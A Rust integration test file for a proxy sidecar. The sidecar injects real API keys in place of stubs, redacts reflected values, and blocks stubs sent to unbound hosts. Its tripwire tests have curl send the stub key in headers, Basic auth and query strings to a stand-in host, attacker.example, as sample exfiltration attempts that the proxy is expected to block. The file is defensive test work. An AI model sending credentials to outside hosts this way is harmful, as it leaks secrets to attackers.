@@ -1,0 +1,668 @@
+//! Issue 3, operator-facing behaviour, black box with real clients: response redaction, the stub
+//! tripwire, metrics content after traffic, `/interceptions` behind `admin_token_file`, and reload of
+//! `secrets_file` (file change, SIGHUP, `POST /reload`, a bad file rejected).
+
+mod support;
+
+use std::process::Stdio;
+use std::sync::atomic::Ordering;
+use std::time::Duration;
+
+use support::ops::{eventually, metric, write_secrets_json, OwnSidecar, Scripted};
+use support::*;
+use tokio::io::AsyncBufReadExt as _;
+
+fn intercept_all(cfg: &mut SidecarConfig) {
+    cfg.intercept = Some("all".into());
+}
+
+async fn metrics_text(admin: std::net::SocketAddr) -> String {
+    let r = within(Duration::from_secs(10), "GET /metrics", raw_get(admin, "/metrics", &[]))
+        .await
+        .expect("GET /metrics");
+    assert_eq!(r.status, 200, "{}", r.head);
+    r.body_text()
+}
+
+// ---------------------------------------------------------------- redaction
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn real_value_reflected_in_header_and_body_reaches_client_as_stub() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let sidecar = Sidecar::start(up.sidecar_config()).await;
+    for proto in ["--http1.1", "--http2"] {
+        let out = sidecar
+            .curl()
+            .arg(proto)
+            .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
+            .arg("https://api.anthropic.com/reflect")
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 200, "{proto}");
+        // The upstream really saw (and reflected) the real value...
+        assert!(
+            up.state.saw(ANTHROPIC_REAL),
+            "{proto}: upstream never got the real value"
+        );
+        // ...and the client sees only the stub, in the header and in the identity body.
+        let reflect = out.header("x-reflect").unwrap_or_default().to_string();
+        assert_eq!(
+            reflect,
+            format!("key={ANTHROPIC_STUB}; scope=all"),
+            "{proto}: header redacted"
+        );
+        assert!(
+            !out.header_dump.contains(ANTHROPIC_REAL),
+            "{proto}: {}",
+            out.header_dump
+        );
+        let body = out.json();
+        assert_eq!(body["seen"], ANTHROPIC_STUB, "{proto}: body redacted: {body}");
+        assert!(!out.body_text().contains(ANTHROPIC_REAL));
+        if let Some(cl) = out.header("content-length") {
+            assert_eq!(cl, out.body.len().to_string(), "{proto}: Content-Length fixed");
+        }
+    }
+    let m = metrics_text(sidecar.admin).await;
+    assert!(
+        metric(&m, "vault_redactions_total", &[("secret", "ANTHROPIC_API_KEY")]).unwrap_or(0.0) >= 2.0,
+        "redactions counted: {m}"
+    );
+    sidecar.assert_logs_clean();
+}
+
+/// Reads `curl -N` output line by line; the first event (whose real value the upstream split across two
+/// chunks) must arrive redacted *before* the upstream sends the second event.
+async fn sse_split_through(sidecar: &Sidecar, up: &Scripted, proto: &str) {
+    let mut child = tokio::process::Command::new("curl")
+        .args(["-sS", "-N", "--no-buffer", "--max-time", "60", "--noproxy", "", proto])
+        .arg("--proxy")
+        .arg(sidecar.proxy_url())
+        .arg("--cacert")
+        .arg(&sidecar.ca_path)
+        .arg("https://api.anthropic.com/sse-split")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true)
+        .spawn()
+        .expect("spawn curl");
+    let mut lines = tokio::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
+    let first = within(
+        Duration::from_secs(20),
+        "first SSE event before the second is sent (no hold-back past the event)",
+        async {
+            loop {
+                let line = lines.next_line().await.expect("read").expect("stream ended early");
+                if line.starts_with("data: ") {
+                    return line;
+                }
+            }
+        },
+    )
+    .await;
+    assert!(
+        !first.contains(ANTHROPIC_REAL),
+        "{proto}: real value reached the client: {first}"
+    );
+    assert_eq!(
+        first,
+        format!("data: {{\"n\":1,\"key\":\"{ANTHROPIC_STUB}\"}}"),
+        "{proto}: split real value redacted to the stub"
+    );
+    up.state.release_second_event.notify_one();
+    let second = within(Duration::from_secs(20), "second SSE event", async {
+        loop {
+            let line = lines.next_line().await.expect("read").expect("stream ended early");
+            if line.starts_with("data: ") {
+                return line;
+            }
+        }
+    })
+    .await;
+    assert_eq!(second, "data: {\"n\":2}");
+    let status = within(Duration::from_secs(20), "curl exits", child.wait())
+        .await
+        .expect("wait");
+    assert!(status.success(), "{proto}: curl {status}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sse_with_real_value_split_across_chunks_is_redacted_without_delay() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let sidecar = Sidecar::start(up.sidecar_config()).await;
+    sse_split_through(&sidecar, &up, "--http1.1").await;
+    sse_split_through(&sidecar, &up, "--http2").await;
+    sidecar.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn gzip_body_containing_a_real_value_passes_untouched() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let sidecar = Sidecar::start(up.sidecar_config()).await;
+    let raw = up.gzip_bytes();
+    assert!(
+        raw.windows(ANTHROPIC_REAL.len())
+            .any(|w| w == ANTHROPIC_REAL.as_bytes()),
+        "test premise: the stored gzip holds the value verbatim"
+    );
+    for proto in ["--http1.1", "--http2"] {
+        // No --compressed: curl hands us the encoded bytes as they arrived.
+        let out = sidecar
+            .curl()
+            .arg(proto)
+            .arg("https://api.anthropic.com/gzip-real")
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 200);
+        assert_eq!(out.header("content-encoding"), Some("gzip"));
+        assert_eq!(
+            sha256_hex(&out.body),
+            sha256_hex(&raw),
+            "{proto}: compressed bodies pass byte for byte (len {} vs {})",
+            out.body.len(),
+            raw.len()
+        );
+    }
+}
+
+// ---------------------------------------------------------------- tripwire
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn tripwire_blocks_stub_to_unbound_host_with_audit_and_metric() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let mut cfg = up.sidecar_config();
+    intercept_all(&mut cfg);
+    let sidecar = Sidecar::start(cfg).await;
+    let before = metrics_text(sidecar.admin).await;
+    let blocked_before = metric(&before, "vault_blocked_total", &[("reason", "stub-exfiltration")]).unwrap_or(0.0);
+
+    // In a header, in Basic credentials and in the query: each is refused.
+    let basic = {
+        use base64::Engine as _;
+        base64::engine::general_purpose::STANDARD.encode(format!("user:{ANTHROPIC_STUB}"))
+    };
+    let attempts: Vec<Vec<String>> = vec![
+        vec!["-H".into(), format!("x-api-key: {ANTHROPIC_STUB}")],
+        vec!["-H".into(), format!("Authorization: Basic {basic}")],
+        vec![
+            "--http1.1".into(),
+            "-H".into(),
+            format!("x-note: Bearer {ANTHROPIC_STUB}"),
+        ],
+    ];
+    for (i, extra) in attempts.iter().enumerate() {
+        let out = sidecar
+            .curl()
+            .args(extra.iter().cloned())
+            .arg(format!("https://attacker.example/exfil-{i}"))
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 403, "attempt {i}: {}", out.body_text());
+        assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "attempt {i}");
+        let body = out.json();
+        assert!(
+            body.to_string().contains("ANTHROPIC_API_KEY"),
+            "attempt {i}: the JSON names the secret: {body}"
+        );
+        assert!(!out.body_text().contains(ANTHROPIC_STUB), "attempt {i}: {body}");
+        assert!(!out.body_text().contains(ANTHROPIC_REAL), "attempt {i}: {body}");
+    }
+    let out = sidecar
+        .curl()
+        .arg(format!("https://attacker.example/q?k={ANTHROPIC_STUB}"))
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 403, "stub in the query: {}", out.body_text());
+
+    // None of it reached the upstream.
+    assert!(
+        up.state
+            .paths()
+            .iter()
+            .all(|p| !p.starts_with("/exfil") && !p.starts_with("/q")),
+        "a blocked request reached attacker.example: {:?}",
+        up.state.paths()
+    );
+    assert!(!up.state.saw(ANTHROPIC_STUB));
+    assert!(!up.state.saw(ANTHROPIC_REAL));
+
+    // Audit events (JSON log lines and /interceptions) with the blocked reason and secret name.
+    let events = within(
+        Duration::from_secs(10),
+        "interceptions",
+        raw_get(sidecar.admin, "/interceptions", &[]),
+    )
+    .await
+    .expect("interceptions");
+    assert_eq!(events.status, 200);
+    let v: serde_json::Value = serde_json::from_slice(&events.body).expect("interceptions JSON");
+    let text = v.to_string();
+    let blocked: Vec<&serde_json::Value> = v
+        .as_array()
+        .expect("array of events")
+        .iter()
+        .filter(|e| e.to_string().contains("stub-exfiltration"))
+        .collect();
+    assert!(blocked.len() >= 4, "one audit event per blocked request: {text}");
+    for e in &blocked {
+        let s = e.to_string();
+        assert!(s.contains("attacker.example"), "{s}");
+        assert!(s.contains("ANTHROPIC_API_KEY"), "event names the secret: {s}");
+        assert!(s.contains("403"), "{s}");
+    }
+    assert!(
+        !text.contains(ANTHROPIC_STUB) && !text.contains(ANTHROPIC_REAL),
+        "{text}"
+    );
+    let stdout = sidecar.stdout();
+    assert!(
+        stdout
+            .lines()
+            .any(|l| l.contains("stub-exfiltration") && l.contains("ANTHROPIC_API_KEY")),
+        "audit log line: {stdout}"
+    );
+    assert!(!stdout.contains(ANTHROPIC_STUB), "stub in logs");
+
+    let after = metrics_text(sidecar.admin).await;
+    let blocked_after = metric(&after, "vault_blocked_total", &[("reason", "stub-exfiltration")]).unwrap_or(0.0);
+    assert_eq!(blocked_after - blocked_before, 4.0, "blocked metric: {after}");
+    sidecar.assert_logs_clean();
+}
+
+// ---------------------------------------------------------------- metrics
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn metrics_after_traffic() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let sidecar = Sidecar::start(up.sidecar_config()).await;
+    let m0 = metrics_text(sidecar.admin).await;
+    let mints0 = metric(&m0, "vault_cert_mints_total", &[]).unwrap_or(0.0);
+
+    // Five requests over ONE curl process (keep-alive: one tunnel, one upstream connection)...
+    let mut args: Vec<String> = vec!["--http1.1".into()];
+    for i in 0..5 {
+        if i > 0 {
+            args.push("--next".into());
+            args.extend([
+                "--proxy".to_string(),
+                sidecar.proxy_url(),
+                "--cacert".to_string(),
+                sidecar.ca_path.to_string_lossy().to_string(),
+                "--http1.1".to_string(),
+            ]);
+        }
+        args.extend([
+            "-H".to_string(),
+            format!("x-api-key: {ANTHROPIC_STUB}"),
+            "-o".to_string(),
+            "/dev/null".to_string(),
+            format!("https://api.anthropic.com/ok-{i}"),
+        ]);
+    }
+    let out = sidecar.curl().args(args).run().await;
+    assert_eq!(out.exit, 0, "{}", out.stderr);
+    // ...then five separate curl runs (five CONNECTs to the same host: leaf cache hits, pooled upstream).
+    for i in 0..5 {
+        sidecar
+            .curl()
+            .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
+            .arg(format!("https://api.anthropic.com/sep-{i}"))
+            .run()
+            .await
+            .ok();
+    }
+    // A GitHub token too, and one 404-free tunnel-less 4xx: a tripwire block is not counted as an injection.
+    sidecar
+        .curl()
+        .args(["-H", &format!("authorization: token {GITHUB_STUB}")])
+        .arg("https://api.github.com/gh")
+        .run()
+        .await
+        .ok();
+    let requests_made = 11.0;
+    let upstream_requests = up.state.paths().len() as f64;
+    assert_eq!(upstream_requests, requests_made, "{:?}", up.state.paths());
+
+    let m = metrics_text(sidecar.admin).await;
+    let inj = |secret: &str| {
+        metric(
+            &m,
+            "vault_injections_total",
+            &[("secret", secret), ("location", "header")],
+        )
+    };
+    assert_eq!(
+        inj("ANTHROPIC_API_KEY"),
+        Some(10.0),
+        "injections by secret+location:\n{m}"
+    );
+    assert_eq!(inj("GITHUB_TOKEN"), Some(1.0), "injections by secret+location:\n{m}");
+    assert_eq!(
+        metric(&m, "vault_requests_total", &[("mode", "intercepted"), ("class", "2xx")]),
+        Some(requests_made),
+        "requests by mode and class:\n{m}"
+    );
+    // Two hosts → two leaves minted; every other CONNECT was a cache hit.
+    let mints = metric(&m, "vault_cert_mints_total", &[]).expect("cert mints metric") - mints0;
+    let hits = metric(&m, "vault_cert_cache_hits_total", &[]).expect("cache hits metric");
+    assert_eq!(mints, 2.0, "one mint per host:\n{m}");
+    assert!(hits >= 5.0, "the later CONNECTs hit the leaf cache ({hits}):\n{m}");
+    // Upstream connections are pooled: fewer connects than requests, and they agree with what the
+    // upstream accepted.
+    let connects = metric(&m, "vault_upstream_connects_total", &[]).expect("upstream connects metric");
+    assert!(connects >= 1.0, "{m}");
+    assert!(
+        connects < requests_made,
+        "keep-alive reuse: {connects} upstream connects for {requests_made} requests:\n{m}"
+    );
+    assert_eq!(
+        connects,
+        up.state.accepts.load(Ordering::SeqCst) as f64,
+        "the metric matches the connections the upstream accepted"
+    );
+    // The added-latency histogram observed each request.
+    let count = metric(&m, "vault_added_latency_seconds_count", &[]).expect("latency histogram count");
+    assert!(
+        count >= requests_made,
+        "added latency observed per request ({count}):\n{m}"
+    );
+    assert!(m.contains("vault_added_latency_seconds_bucket{le="), "{m}");
+    assert!(
+        !m.contains(ANTHROPIC_REAL) && !m.contains(ANTHROPIC_STUB),
+        "values in metrics"
+    );
+}
+
+// ---------------------------------------------------------------- /interceptions and the admin token
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn interceptions_need_the_admin_token_and_hold_names_only() {
+    let up = Scripted::start(ANTHROPIC_REAL).await;
+    let tokdir = tempfile::tempdir().expect("tempdir");
+    let token = "adm-7c1e9a3f5b2d4e6f8a0c";
+    let token_path = tokdir.path().join("admin.token");
+    std::fs::write(&token_path, format!("{token}\n")).expect("write token");
+    let mut cfg = up.sidecar_config();
+    intercept_all(&mut cfg);
+    let root = format!("admin_token_file = {:?}", token_path.to_string_lossy());
+    let sidecar = OwnSidecar::start(&cfg, &root).await;
+
+    sidecar
+        .curl()
+        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
+        .arg("https://api.anthropic.com/reflect?secretquery=QVAL-not-logged")
+        .run()
+        .await
+        .ok();
+    let out = sidecar
+        .curl()
+        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
+        .arg("https://attacker.example/steal")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 403);
+
+    let get = |hdrs: Vec<(String, String)>| {
+        let admin = sidecar.admin;
+        async move {
+            let h: Vec<(&str, &str)> = hdrs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+            within(
+                Duration::from_secs(10),
+                "GET /interceptions",
+                raw_get(admin, "/interceptions", &h),
+            )
+            .await
+            .expect("GET /interceptions")
+        }
+    };
+    let none = get(vec![]).await;
+    assert_eq!(none.status, 401, "no token: {}", none.body_text());
+    let wrong = get(vec![("Authorization".into(), "Bearer adm-wrong-token".into())]).await;
+    assert_eq!(wrong.status, 401, "wrong token: {}", wrong.body_text());
+    let prefix = get(vec![("Authorization".into(), format!("Bearer {}", &token[..10]))]).await;
+    assert_eq!(prefix.status, 401, "a prefix of the token: {}", prefix.body_text());
+    let basic = get(vec![("Authorization".into(), format!("Basic {token}"))]).await;
+    assert_eq!(basic.status, 401, "not a bearer token: {}", basic.body_text());
+    // /reload is guarded the same way.
+    let reload = within(
+        Duration::from_secs(10),
+        "POST /reload",
+        raw_request(sidecar.admin, "POST", "/reload", &[], b""),
+    )
+    .await
+    .expect("POST /reload");
+    assert_eq!(reload.status, 401, "/reload without token");
+    // Health and metrics stay open.
+    assert_eq!(get_status(sidecar.admin, "/healthz").await, 200);
+    assert_eq!(get_status(sidecar.admin, "/metrics").await, 200);
+
+    let ok = get(vec![("Authorization".into(), format!("Bearer {token}"))]).await;
+    assert_eq!(ok.status, 200, "{}", ok.body_text());
+    let text = ok.body_text();
+    let v: serde_json::Value = serde_json::from_str(&text).expect("JSON");
+    let events = v.as_array().expect("an array of events");
+    assert!(events.len() >= 2, "{text}");
+    // Grep the raw JSON: names only, never a value or a stub, never query values.
+    assert!(text.contains("ANTHROPIC_API_KEY"), "{text}");
+    for forbidden in [
+        ANTHROPIC_REAL,
+        ANTHROPIC_STUB,
+        GITHUB_REAL,
+        GITHUB_STUB,
+        "QVAL-not-logged",
+    ] {
+        assert!(!text.contains(forbidden), "{forbidden:?} in /interceptions: {text}");
+    }
+    let injected = events
+        .iter()
+        .find(|e| e.to_string().contains("/reflect"))
+        .unwrap_or_else(|| panic!("event for /reflect: {text}"));
+    let s = injected.to_string();
+    for field in ["api.anthropic.com", "GET", "200", "header"] {
+        assert!(s.contains(field), "audit event lacks {field:?}: {s}");
+    }
+    let blocked = events
+        .iter()
+        .find(|e| e.to_string().contains("stub-exfiltration"))
+        .unwrap_or_else(|| panic!("blocked event: {text}"));
+    assert!(blocked.to_string().contains("attacker.example"), "{blocked}");
+    let stdout = sidecar.stdout();
+    for forbidden in [ANTHROPIC_REAL, ANTHROPIC_STUB, "QVAL-not-logged", token] {
+        assert!(!stdout.contains(forbidden), "{forbidden:?} in the logs");
+    }
+}
+
+async fn get_status(admin: std::net::SocketAddr, path: &str) -> u16 {
+    within(Duration::from_secs(10), "admin GET", raw_get(admin, path, &[]))
+        .await
+        .expect("admin GET")
+        .status
+}
+
+// ---------------------------------------------------------------- reload
+
+const ROT_STUB: &str = "lapstub-rotating-5e7a9c1b3d";
+const ROT_V1: &str = "REAL-rotating-v1-aaaaaaaaaaaa";
+const ROT_V2: &str = "REAL-rotating-v2-bbbbbbbbbbbb";
+const ROT_V3: &str = "REAL-rotating-v3-cccccccccccc";
+const ROT_V4: &str = "REAL-rotating-v4-dddddddddddd";
+
+fn rot(value: &str) -> SecretSpec {
+    SecretSpec::new("ROTATING_TOKEN", ROT_STUB, value, &["api.github.com"], &["header"])
+}
+
+/// Sends the rotating stub once (tagged) and returns the value the upstream received for it.
+async fn rotating_value_seen(h: &Harness, tag: &str) -> Option<String> {
+    let out = h
+        .sidecar
+        .curl()
+        .args(["-H", &format!("x-rot: {ROT_STUB}"), "-H", &format!("x-tag: {tag}")])
+        .arg("https://api.github.com/echo")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200, "{}", out.body_text());
+    h.upstream
+        .requests()
+        .into_iter()
+        .find(|r| r.header("x-tag") == Some(tag))
+        .and_then(|r| r.header("x-rot").map(str::to_string))
+}
+
+/// Polls until the upstream receives `want` for the rotating stub.
+async fn until_upstream_sees(h: &Harness, want: &str, what: &str) {
+    let mut n = 0u32;
+    eventually(Duration::from_secs(20), what, || {
+        n += 1;
+        let tag = format!("{want}-{n}");
+        async move { (rotating_value_seen(h, &tag).await.as_deref() == Some(want)).then_some(()) }
+    })
+    .await;
+}
+
+async fn metric_now(h: &Harness, name: &str) -> f64 {
+    metric(&metrics_text(h.sidecar.admin).await, name, &[]).unwrap_or(0.0)
+}
+
+/// Rewrites the file with `spec` but restores its previous mtime (same length), so the 1 s file watcher
+/// cannot see the change: only an explicit SIGHUP / POST /reload picks it up.
+fn rewrite_unnoticed(path: &std::path::Path, spec: &SecretSpec) {
+    let before = std::fs::metadata(path).expect("stat");
+    let mtime = before.modified().expect("mtime");
+    write_secrets_json(path, std::slice::from_ref(spec));
+    let after = std::fs::metadata(path).expect("stat");
+    assert_eq!(before.len(), after.len(), "test premise: same length");
+    std::fs::File::options()
+        .write(true)
+        .open(path)
+        .expect("open")
+        .set_modified(mtime)
+        .expect("set mtime");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_file_rotation_on_change_sighup_and_post() {
+    let sdir = tempfile::tempdir().expect("tempdir");
+    let sf = sdir.path().join("secrets.json");
+    write_secrets_json(&sf, &[rot(ROT_V1)]);
+    let sf2 = sf.clone();
+    let h = Harness::start(Alpn::Both, move |c| c.secrets_file = Some(sf2)).await;
+    assert_eq!(rotating_value_seen(&h, "v1").await.as_deref(), Some(ROT_V1));
+    let reloads0 = metric_now(&h, "vault_reloads_total").await;
+
+    // 1. File change alone (no signal, no request): picked up by the watcher.
+    write_secrets_json(&sf, &[rot(ROT_V2)]);
+    until_upstream_sees(&h, ROT_V2, "file change reloads the secret").await;
+    let reloads1 = metric_now(&h, "vault_reloads_total").await;
+    assert!(reloads1 > reloads0, "reload counted ({reloads0} -> {reloads1})");
+
+    // 2. SIGHUP, with the change hidden from the watcher.
+    rewrite_unnoticed(&sf, &rot(ROT_V3));
+    let pid = h.sidecar.pid().to_string();
+    run_prog("kill", &["-HUP", &pid], &[], None).await.ok("kill -HUP");
+    until_upstream_sees(&h, ROT_V3, "SIGHUP reloads the secret").await;
+
+    // 3. POST /reload, change hidden from the watcher too.
+    rewrite_unnoticed(&sf, &rot(ROT_V4));
+    let r = within(
+        Duration::from_secs(10),
+        "POST /reload",
+        raw_request(h.sidecar.admin, "POST", "/reload", &[], b""),
+    )
+    .await
+    .expect("POST /reload");
+    assert_eq!(r.status, 200, "{}{}", r.head, r.body_text());
+    // Synchronous: the very next request uses the new value.
+    assert_eq!(rotating_value_seen(&h, "v4-now").await.as_deref(), Some(ROT_V4));
+    assert!(!r.body_text().contains(ROT_V4), "no value in the reload answer");
+
+    let stdout = h.sidecar.stdout();
+    for v in [ROT_V1, ROT_V2, ROT_V3, ROT_V4, ROT_STUB] {
+        assert!(!stdout.contains(v), "{v} in logs");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bad_secrets_file_is_rejected_and_old_value_kept() {
+    let sdir = tempfile::tempdir().expect("tempdir");
+    let sf = sdir.path().join("secrets.json");
+    write_secrets_json(&sf, &[rot(ROT_V1)]);
+    let sf2 = sf.clone();
+    let h = Harness::start(Alpn::Both, move |c| c.secrets_file = Some(sf2)).await;
+    assert_eq!(rotating_value_seen(&h, "v1").await.as_deref(), Some(ROT_V1));
+    let failures0 = metric_now(&h, "vault_reload_failures_total").await;
+
+    // A secret with no hosts and an invalid name: invalid by SPEC §2.1. Hidden from the watcher so the
+    // POST is the one reload that counts.
+    let bad = serde_json::json!({"secrets": [{
+        "name": "9-not-a-name",
+        "stub": ROT_STUB,
+        "value": ROT_V2,
+        "hosts": [],
+        "locations": ["header"],
+    }]})
+    .to_string();
+    let mtime = std::fs::metadata(&sf).expect("stat").modified().expect("mtime");
+    std::fs::write(&sf, &bad).expect("write bad");
+    std::fs::File::options()
+        .write(true)
+        .open(&sf)
+        .expect("open")
+        .set_modified(mtime)
+        .expect("set mtime");
+    let r = within(
+        Duration::from_secs(10),
+        "POST /reload",
+        raw_request(h.sidecar.admin, "POST", "/reload", &[], b""),
+    )
+    .await
+    .expect("POST /reload");
+    assert_eq!(r.status, 422, "{}{}", r.head, r.body_text());
+    let body: serde_json::Value = serde_json::from_slice(&r.body).expect("422 JSON");
+    let problems = body["problems"].as_array().expect("problems array").clone();
+    assert!(!problems.is_empty(), "{body}");
+    assert!(
+        !r.body_text().contains(ROT_V2) && !r.body_text().contains(ROT_STUB),
+        "{body}"
+    );
+    assert_eq!(
+        metric_now(&h, "vault_reload_failures_total").await - failures0,
+        1.0,
+        "reload_failures +1"
+    );
+    assert_eq!(
+        rotating_value_seen(&h, "after-bad").await.as_deref(),
+        Some(ROT_V1),
+        "the old value stays in force"
+    );
+
+    // Invalid JSON via the watcher: counted and logged, old value still used.
+    std::fs::write(&sf, b"{\"secrets\": [ this is not json").expect("write garbage");
+    eventually(Duration::from_secs(20), "watcher counts the bad file", || {
+        let h = &h;
+        async move { (metric_now(h, "vault_reload_failures_total").await - failures0 >= 2.0).then_some(()) }
+    })
+    .await;
+    assert_eq!(rotating_value_seen(&h, "after-garbage").await.as_deref(), Some(ROT_V1));
+    assert!(
+        h.sidecar
+            .stdout()
+            .lines()
+            .any(|l| l.contains("rejected") && l.contains("secrets_file")),
+        "the rejected reload is logged naming the file key: {}",
+        h.sidecar.stdout()
+    );
+
+    // A good file again recovers.
+    write_secrets_json(&sf, &[rot(ROT_V3)]);
+    until_upstream_sees(&h, ROT_V3, "good file after bad ones").await;
+    for v in [ROT_V1, ROT_V2, ROT_V3, ROT_STUB] {
+        assert!(!h.sidecar.stdout().contains(v), "{v} in logs");
+    }
+}
